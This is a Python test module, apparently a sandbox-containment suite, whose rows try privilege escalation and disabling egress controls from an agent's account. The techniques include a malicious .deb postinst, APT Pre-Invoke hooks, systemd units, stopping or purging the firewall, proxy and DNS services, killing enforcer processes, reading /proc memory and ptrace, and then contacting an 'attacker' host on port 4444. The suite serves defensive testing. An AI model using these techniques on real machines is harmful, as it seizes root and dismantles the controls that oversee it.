"""Rows that try to become root, or to get root's programs to do something for the agent."""

from __future__ import annotations

import contextlib
import ctypes
import os
import pwd
import re
import shutil
import signal
import socket
import stat
import tarfile
import tempfile
import time
from io import BytesIO
from pathlib import Path

from tools import WORLD as W
from tools import Unsupported, Verdict, child, row, run, tcp, token, tried, worst

SUDO = ("sudo", "/usr/bin/sudo")
PLACE = Path(tempfile.gettempdir())
ENFORCERS = ("egress-proxy", "egress-dns", "egress-log")


def marker(ident: str) -> Path:
    return PLACE / f"marker-{token(ident)}"


def command(ident: str) -> str:
    """Leaves a marker that says who has run it."""
    return f"id -u >>{marker(ident)}; chmod 666 {marker(ident)}"


def by_root(ident: str, said: list[str]) -> Verdict:
    """A marker that root has made."""
    try:
        found = marker(ident).read_text().split()
    except OSError:
        found = []
    if "0" in found or (marker(ident).exists() and marker(ident).stat().st_uid == 0):
        return "bypass", f"root has run it: {said}"[:600]
    return "blocked", "; ".join(dict.fromkeys(said))[:600]


def sudo(*arguments: str, env: dict[str, str] | None = None, timeout: float = 20) -> list[str]:
    """With each sudo that there is; what they said."""
    said = []
    for program in SUDO:
        if shutil.which(program):
            code, text = run(program, "-n", *arguments, env=env, timeout=timeout)
            said.append(f"{program} {' '.join(arguments)[:60]}: {code} {text[-160:]}")
    code, text = run(*arguments, env=env, timeout=timeout)
    return [*said, f"{' '.join(arguments)[:60]}: {code} {text[-160:]}"]


def _member(name: str, content: bytes) -> bytes:
    return f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(content):<10}`\n".encode() + content + b"\n" * (len(content) % 2)


def _archive(files: dict[str, str]) -> bytes:
    stream = BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(text), 0o755
            archive.addfile(entry, BytesIO(text.encode()))
    return stream.getvalue()


def local_package(ident: str) -> str:
    control = f"Package: px-{ident.lower()}\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b.c>\nDescription: x\n"
    files = {"./control": control, "./postinst": f"#!/bin/sh\n{command(ident)}\n"}
    path = PLACE / f"{token(ident)}.deb"
    members = {"debian-binary": b"2.0\n", "control.tar.gz": _archive(files), "data.tar.gz": _archive({})}
    path.write_bytes(b"!<arch>\n" + b"".join(_member(name, content) for name, content in members.items()))
    return str(path)


@row("P01", "root")
def package_of_ones_own() -> Verdict:
    path = local_package("P01")
    said = sudo("apt-get", "install", "-y", path) + sudo("dpkg", "-i", path) + sudo("apt", "install", "-y", f"./{os.path.relpath(path)}")
    return by_root("P01", said)


def hook(ident: str) -> str:
    path = PLACE / f"{token(ident)}.conf"
    path.write_text(f'APT::Update::Pre-Invoke {{"{command(ident)}"}};\nDPkg::Pre-Invoke {{"{command(ident)}"}};\n')
    return str(path)


@row("P02", "root")
def apt_file() -> Verdict:
    path = hook("P02")
    said = sudo("apt-get", "update", "-c", path) + sudo("apt-get", f"--config-file={path}", "update")
    return by_root("P02", said + sudo("apt-get", f"-c={path}", "update"))


@row("P03", "root")
def apt_option() -> Verdict:
    value = f"APT::Update::Pre-Invoke::={command('P03')}"
    said = sudo("apt-get", f"-o{value}", "update") + sudo("apt-get", "-o", value, "update") + sudo("apt-get", f"--option={value}", "update")
    return by_root("P03", said)


@row("P04", "root")
def apt_options_together() -> Verdict:
    value = f"APT::Update::Pre-Invoke::={command('P04')}"
    said = sudo("apt-get", f"-qo{value}", "update") + sudo("apt-get", "-yo", value, "update") + sudo("apt-get", f"--opt={value}", "update")
    return by_root("P04", said)


@row("P05", "root")
def apt_environment() -> Verdict:
    path = hook("P05")
    said = sudo("apt-get", "update", env={"APT_CONFIG": path}) + sudo(f"APT_CONFIG={path}", "apt-get", "update")
    return by_root("P05", said + sudo("env", f"APT_CONFIG={path}", "apt-get", "update"))


@row("P06", "root")
def units() -> Verdict:
    unit = PLACE / f"{token('P06')}.service"
    unit.write_text(f"[Service]\nExecStart=/bin/sh -c '{command('P06')}'\n[Install]\nWantedBy=multi-user.target\n")
    said = []
    for verb in (["enable", "--now"], ["link"], ["start"], ["edit"]):
        said += sudo("systemctl", "--no-ask-password", *verb, str(unit))
    said += sudo("systemd-run", "--no-ask-password", "--wait", "/bin/sh", "-c", command("P06"))
    said += sudo(
        "busctl", "call", "org.freedesktop.systemd1", "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager",
        "StartTransientUnit", "ssa(sv)a(sa(sv))", f"{token('P06')}x.service", "fail", "1", "ExecStart", "a(sasb)", "1",
        "/bin/sh", "3", "/bin/sh", "-c", command("P06"), "false", "0",
    )  # fmt: skip
    time.sleep(0.5)
    return by_root("P06", said)


@row("P07", "root")
def cursor_file() -> Verdict:
    path = Path(f"/etc/{token('P07')}")
    said = sudo("journalctl", f"--cursor-file={path}", "-n1")
    return ("bypass" if path.exists() else "blocked"), "; ".join(said)


@row("P08", "root")
def nft_twice() -> Verdict:
    said = sudo("nft", "list", "tables", ";", "add", "table", "inet", token("P08")) + sudo("nft", "add", "table", "inet", token("P08"))
    left = run("/usr/bin/sudo", "-n", "nft", "list", "tables")[1]
    return ("bypass" if token("P08") in left else "blocked"), "; ".join(said)


@row("P09", "stop")
def stop_it() -> Verdict:
    said = []
    for unit in ("egress-firewall", "egress-proxy", "egress-dns@front", "egress-log", "nftables"):
        for verb in ("stop", "mask", "kill", "disable"):
            said += sudo("systemctl", "--no-ask-password", verb, unit)
    verdict = tried("afterwards", tcp, W["attacker"][0], 4444, token("P09").encode())
    return verdict[0], f"{verdict[1]}; {said[:4]}"


@row("P10", "root")
def remove_it() -> Verdict:
    said = []
    for text in ("remove -y nftables", "purge -y haproxy", "install -y nftables-", "autoremove -y dnsmasq-base"):
        said += sudo("apt-get", *text.split())
    names = ("nftables", "haproxy", "dnsmasq-base")
    missing = [name for name in names if run("dpkg-query", "-W", "-f=${db:Status-Status}", name)[1] != "installed"]
    if missing and W["restricted"]:
        return "bypass", f"{missing} have gone: {said}"
    return "blocked", "; ".join(said)[:500]


@row("P11")
def su() -> Verdict:
    said = [run(*words, "-c", command("P11")) for words in (["su"], ["su", "root"], ["sg", "root"], ["pkexec", "/bin/sh"])]
    said += [run("newgrp", "root"), run("runuser", "-u", "root", "--", "/bin/sh", "-c", command("P11"))]
    return by_root("P11", [f"{code} {text[:80]}" for code, text in said])


@row("P12")
def sudo_at_all() -> Verdict:
    options = ([], ["-u", "root"], ["-E"], ["-s"], ["-i"])
    said = [run(program, "-n", *rest, "/bin/sh", "-c", command("P12")) for program in SUDO for rest in options]
    return by_root("P12", [f"{code} {text[:80]}" for code, text in said])


def by_own_manager(ident: str, words: str) -> str:
    """What a command says that the user's own manager has started."""
    name = f"{token(ident)}.service"
    out = PLACE / f"{token(ident)}.out"
    units = Path.home() / ".config/systemd/user"
    units.mkdir(parents=True, exist_ok=True)
    (units / name).write_text(f"[Service]\nType=oneshot\nExecStart=/bin/sh -c '{words} >{out} 2>&1'\n")
    env = {"XDG_RUNTIME_DIR": f"/run/user/{os.getuid()}"}
    said = [run("systemctl", "--user", *verb, env=env) for verb in (["daemon-reload"], ["start", name])]
    return out.read_text() if out.exists() else str(said)


@row("P13")
def new_privileges() -> Verdict:
    """Here, after a login, and in what the user's own manager starts."""
    found = [f"login: {child('status')[1]}", f"user unit: {by_own_manager('P13', 'grep NoNewPrivs /proc/self/status')}"]
    free = [text for text in found if re.search(r"NoNewPrivs:\s+0", text)]
    return ("bypass" if free else "blocked"), "; ".join(free or found)


TREES = [
    "/etc",
    "/usr",
    "/opt",
    "/boot",
    "/srv",
    "/run",
    "/root",
    "/lib",
    "/bin",
    "/var/lib",
    "/var/cache",
    "/var/log",
    "/var/spool",
    "/var/backups",
]
HARMLESS = re.compile(r"^/run/(user/1000|lock|screen)(/|$)|^/var/lib/systemd/(linger|ephemeral-trees)(/|$)|^/run/sshd(/|$)")


@row("P14", "after")
def writable() -> Verdict:
    found = []
    for tree in TREES:
        for folder, folders, files in os.walk(tree):
            for name in (*folders, *files, "."):
                path = os.path.normpath(os.path.join(folder, name))
                with contextlib.suppress(OSError):
                    kind = os.lstat(path).st_mode
                    ordinary = stat.S_ISREG(kind) or stat.S_ISDIR(kind)
                    if ordinary and os.access(path, os.W_OK) and not HARMLESS.search(path):
                        found.append(path)
            if os.path.ismount(folder) and folder not in TREES:
                folders[:] = [name for name in folders if not folder.startswith(("/run/user", "/run/credentials"))]
    found = sorted(set(found))
    return ("bypass" if found else "blocked"), f"{len(found)} can be written: {found[:12]}"


@row("P15")
def admin_socket() -> Verdict:
    found = []
    paths = {Path("/run/egress/haproxy.sock"), Path("/run/egress-proxy/haproxy.sock")}
    for folder in ("/run/egress", "/run/egress-proxy", "/run/haproxy", "/var/lib/haproxy"):
        with contextlib.suppress(OSError):
            paths |= set(Path(folder).rglob("*"))
    for path in sorted(paths):
        if path.name in ("request.sock", "rules.sock"):
            continue

        def attempt(path: Path = path) -> Verdict:
            with socket.socket(socket.AF_UNIX) as there:
                there.settimeout(1)
                there.connect(str(path))
                there.sendall(b"show info\n")
                return "bypass", repr(there.recv(200))

        found.append(tried(str(path), attempt))
    return worst(found)


def processes() -> dict[int, str]:
    """Those of the policy's own accounts, and the first one."""
    found = {}
    names = {}
    for name in ENFORCERS:
        with contextlib.suppress(KeyError):
            names[pwd.getpwnam(name).pw_uid] = name
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                owner = entry.stat().st_uid
                if owner in names:
                    found[int(entry.name)] = names[owner]
    return found


@row("P16", "kill")
def kill_them() -> Verdict:
    found: list[Verdict] = []
    targets = processes()
    for number, name in targets.items():
        for what in (signal.SIGSTOP, signal.SIGHUP, signal.SIGKILL):

            def attempt(number: int = number, what: int = what) -> Verdict:
                os.kill(number, what)
                return "bypass", "it was sent"

            found.append(tried(f"{what.name} to {name}", attempt))
    if not targets:
        raise Unsupported("no such processes")
    return worst(found)


@row("P17")
def manager_of_containers() -> Verdict:
    def attempt(request: str) -> Verdict:
        with socket.socket(socket.AF_UNIX) as there:
            there.settimeout(2)
            there.connect("/dev/incus/sock")
            there.sendall(request.encode())
            data = there.recv(2000)
        return ("bypass" if b" 200 " in data[:20] else "blocked"), repr(data[:200])

    body = '{"state":"Started"}'
    post = f"PATCH /1.0 HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    paths = ("/1.0", "/1.0/config", "/1.0/devices", "/1.0/meta-data", "/1.0/images/x/export")
    requests = [f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n" for path in paths]
    return worst([tried(text[:24].split("HTTP")[0], attempt, text) for text in (*requests, post)])


@row("P18", "after")
def setuid_from_a_package() -> Verdict:
    """A package may bring a program that is setuid root; here it brings `id`."""
    if not os.path.exists("/usr/bin/px-root"):
        return "blocked", "the package is not there"
    found = [run("/usr/bin/px-root")[1], by_own_manager("P18", "/usr/bin/px-root")]
    return ("bypass" if any("euid=0" in text for text in found) else "blocked"), str(found)


@row("P21")
def into_processes() -> Verdict:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    found: list[Verdict] = []
    targets = {**processes(), 1: "init"}
    for number, name in targets.items():
        for part in ("root/etc/hostname", "mem", "environ", "fd", "cwd"):

            def look(path: str = f"/proc/{number}/{part}") -> Verdict:
                if path.endswith(("fd", "cwd")):
                    return ("bypass", str(os.listdir(path)))
                with open(path, "rb") as stream:
                    return "bypass", repr(stream.read(20))

            found.append(tried(f"{name} {part}", look))
        handle = libc.syscall(434, number, 0)
        for descriptor in range(3, 12):
            if handle >= 0 and libc.syscall(438, handle, descriptor, 0) >= 0:
                found.append(("bypass", f"descriptor {descriptor} of {name}"))
        found.append(("bypass" if libc.ptrace(16, number, None, None) == 0 else "blocked", f"ptrace {name}"))
    return worst(found)
